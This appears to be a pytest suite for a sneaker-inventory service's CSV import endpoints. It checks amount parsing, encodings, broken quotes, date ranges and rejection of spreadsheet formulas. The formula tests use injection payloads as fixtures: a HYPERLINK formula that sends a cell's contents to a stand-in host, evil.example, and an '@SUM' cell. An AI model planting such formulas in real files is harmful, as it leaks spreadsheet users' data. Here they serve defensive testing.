"""Both CSV imports read a file the same way (issue 10, items 1, 5, 6 and 10; issue 11, item 3).

Every case goes through HTTP to POST /inventory/import and POST /orders/import: the same
cell means the same amount or date in both, a broken quote or a formula is a row error, and
a refused file writes nothing.
"""

from __future__ import annotations

from decimal import Decimal
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from domains.inventory.models import InventoryItem
from domains.orders.models import Order
from domains.products.models import Brand, Product
from shared.csv_import import spreadsheet_safe
from tests.factories import days_ago, make_brand, make_product

SKU = "DZ5485-612"


async def _catalogue(db: AsyncSession) -> None:
    await make_product(db, brand=await make_brand(db, "Jordan"), sku=SKU)
    await db.commit()


async def _count(db: AsyncSession, model: type) -> int:
    return int(await db.scalar(select(func.count()).select_from(model)) or 0)


async def _post(
    client: httpx.AsyncClient, auth: dict[str, str], path: str, content: bytes, **params: str
) -> httpx.Response:
    files = {"file": ("file.csv", content, "text/csv")}
    return await client.post(path, files=files, params=params, headers=auth)


def _quoted(cell: str) -> str:
    return f'"{cell}"'


def _inventory_file(price: str, *, extra: str = "", sep: str = ",") -> str:
    day = days_ago(30).date().isoformat()
    header = sep.join(["sku", "size", "purchase_price", "purchased_at", "location"])
    return f"{header}\n{sep.join([SKU, '10', _quoted(price), day, 'Shelf A'])}\n{extra}"


def _sales_file(price: str, *, extra: str = "", sep: str = ",") -> str:
    sold, bought = days_ago(1).date().isoformat(), days_ago(30).date().isoformat()
    header = sep.join(["sku", "size", "platform", "sale_price", "sold_at", "purchase_price", "purchased_at"])
    return f"{header}\n{sep.join([SKU, '10', 'stockx', _quoted(price), sold, '100', bought])}\n{extra}"


async def _inventory_price(client: httpx.AsyncClient, auth: dict[str, str]) -> Decimal:
    items = (await client.get("/inventory/items", headers=auth)).json()["items"]
    return Decimal(items[0]["purchase_price"])


async def _sale_price(client: httpx.AsyncClient, auth: dict[str, str]) -> Decimal:
    orders = (await client.get("/orders", headers=auth)).json()["items"]
    return Decimal(orders[0]["sale_price"])


def _row_errors(response: httpx.Response) -> list[dict[str, Any]]:
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "import_invalid"
    details: list[dict[str, Any]] = error["details"]
    return details


# --- item 6: one money reader --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "decimal", "amount"),
    [
        ("1,200", "point", "1200.00"),
        ("1.200", "comma", "1200.00"),
        ("1.200,50", "auto", "1200.50"),
        ("1,200.50", "auto", "1200.50"),
        ("12,5", "auto", "12.50"),
        ("250", "auto", "250.00"),
    ],
)
async def test_an_amount_means_the_same_in_both_imports(
    client: httpx.AsyncClient, db: AsyncSession, auth: dict[str, str], cell: str, decimal: str, amount: str
) -> None:
    await _catalogue(db)
    stock = await _post(client, auth, "/inventory/import", _inventory_file(cell).encode(), decimal=decimal)
    assert stock.status_code == 200, stock.text
    sales = await _post(client, auth, "/orders/import", _sales_file(cell).encode(), decimal=decimal)
    assert sales.status_code == 200, sales.text
    assert await _inventory_price(client, auth) == await _sale_price(client, auth) == Decimal(amount)


@pytest.mark.parametrize("cell", ["1,200", "1.200"])
async def test_an_amount_that_reads_two_ways_is_refused_unless_the_file_decides(
    client: httpx.AsyncClient, db: AsyncSession, auth: dict[str, str], cell: str
) -> None:
    await _catalogue(db)
    for path, make in (("/inventory/import", _inventory_file), ("/orders/import", _sales_file)):
        details = _row_errors(await _post(client, auth, path, make(cell).encode()))
        assert details[0]["row"] == 2 and "ambiguous" in details[0]["message"], details
    # Another amount of the same file shows the mark: then it is read by it.
    day = days_ago(20).date().isoformat()
    decided = _inventory_file("1,200", extra=f"{SKU},11,99.50,{day},Shelf B\n")
    assert (await _post(client, auth, "/inventory/import", decided.encode())).status_code == 200
    prices = sorted(
        i["purchase_price"] for i in (await client.get("/inventory/items", headers=auth)).json()["items"]
    )
    assert prices == ["1200.00", "99.50"]


async def test_a_file_mixing_decimal_points_and_commas_is_refused(
    client: httpx.AsyncClient, db: AsyncSession, auth: dict[str, str]
) -> None:
    await _catalogue(db)
    day = days_ago(20).date().isoformat()
    mixed = _inventory_file("99.50", extra=f'{SKU},11,"12,50",{day},Shelf B\n')
    details = _row_errors(await _post(client, auth, "/inventory/import", mixed.encode()))
    assert "decimal comma" in details[0]["message"]
    assert await _count(db, InventoryItem) == 0


async def test_both_imports_read_windows_1252_and_tab_separated_files(
    client: httpx.AsyncClient, db: AsyncSession, auth: dict[str, str]
) -> None:
    await _catalogue(db)
    stock = _inventory_file("189,90 €", sep="\t").encode("cp1252")
    assert (await _post(client, auth, "/inventory/import", stock)).status_code == 200
    sales = _sales_file("250,00 €", sep="\t").encode("cp1252")
    response = await _post(client, auth, "/orders/import", sales)
    assert response.status_code == 200, response.text
    assert await _sale_price(client, auth) == Decimal("250.00")


# --- item 5: broken quoting ----------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/inventory/import", "/orders/import"])
async def test_a_quote_that_is_never_closed_is_a_row_error_and_nothing_is_imported(
    client: httpx.AsyncClient, db: AsyncSession, auth: dict[str, str], path: str
) -> None:
    await _catalogue(db)
    make = _inventory_file if path == "/inventory/import" else _sales_file
    day = days_ago(20).date().isoformat()
    broken = make("100", extra=f'{SKU},11,100,{day},"unterminated,,,,,\n')
    details = _row_errors(await _post(client, auth, path, broken.encode()))
    assert details[0]["row"] == 3 and "never closed" in details[0]["message"], details
    assert await _count(db, InventoryItem) == 0 and await _count(db, Order) == 0


# --- item 10: spreadsheet formulas ---------------------------------------------------------------


@pytest.mark.parametrize("column", ["brand", "product_name", "location"])
async def test_a_formula_in_a_name_is_a_row_error_and_creates_no_brand(
    client: httpx.AsyncClient, db: AsyncSession, auth: dict[str, str], column: str
) -> None:
    values = {
        "sku": "NEW-001",
        "size": "10",
        "purchase_price": "100",
        "purchased_at": days_ago(3).date().isoformat(),
        "product_name": "Dunk Low Panda",
        "brand": "Nike",
        "location": "Shelf A",
    }
    values[column] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = ",".join(values) + "\n" + ",".join(f'"{v.replace(chr(34), chr(34) * 2)}"' for v in values.values())
    details = _row_errors(await _post(client, auth, "/inventory/import", text.encode()))
    assert details == [{"row": 2, "field": column, "message": details[0]["message"]}]
    assert "formula" in details[0]["message"]
    assert await _count(db, Brand) == 0 and await _count(db, Product) == 0


async def test_a_formula_as_order_reference_is_a_row_error(
    client: httpx.AsyncClient, db: AsyncSession, auth: dict[str, str]
) -> None:
    await _catalogue(db)
    text = _sales_file("250").rstrip("\n").split("\n")
    text[0] += ",external_ref"
    text[1] += ",@SUM(1+1)"
    details = _row_errors(await _post(client, auth, "/orders/import", "\n".join(text).encode()))
    assert details[0]["field"] == "external_ref" and "formula" in details[0]["message"]
    assert await _count(db, Order) == 0


def test_cells_the_service_writes_are_neutralised() -> None:
    assert spreadsheet_safe('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert [spreadsheet_safe(v) for v in ("+1", "-1", "@A1", "\tx")] == ["'+1", "'-1", "'@A1", "'\tx"]
    assert spreadsheet_safe("Jordan") == "Jordan"


# --- item 1: boundary dates in files -------------------------------------------------------------


@pytest.mark.parametrize("moment", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "1999-12-31"])
async def test_dates_outside_the_business_range_are_row_errors_in_both_imports(
    client: httpx.AsyncClient, db: AsyncSession, auth: dict[str, str], moment: str
) -> None:
    await _catalogue(db)
    stock = f"sku,size,purchase_price,purchased_at\n{SKU},10,100,{moment}\n"
    details = _row_errors(await _post(client, auth, "/inventory/import", stock.encode()))
    assert details[0]["field"] == "purchased_at" and "2000-01-01" in details[0]["message"]
    sales = f"sku,size,platform,sale_price,sold_at,purchase_price,purchased_at\n{SKU},10,stockx,250,{moment},100,2024-01-01\n"
    details = _row_errors(await _post(client, auth, "/orders/import", sales.encode()))
    assert details[0]["field"] == "sold_at" and "2000-01-01" in details[0]["message"]
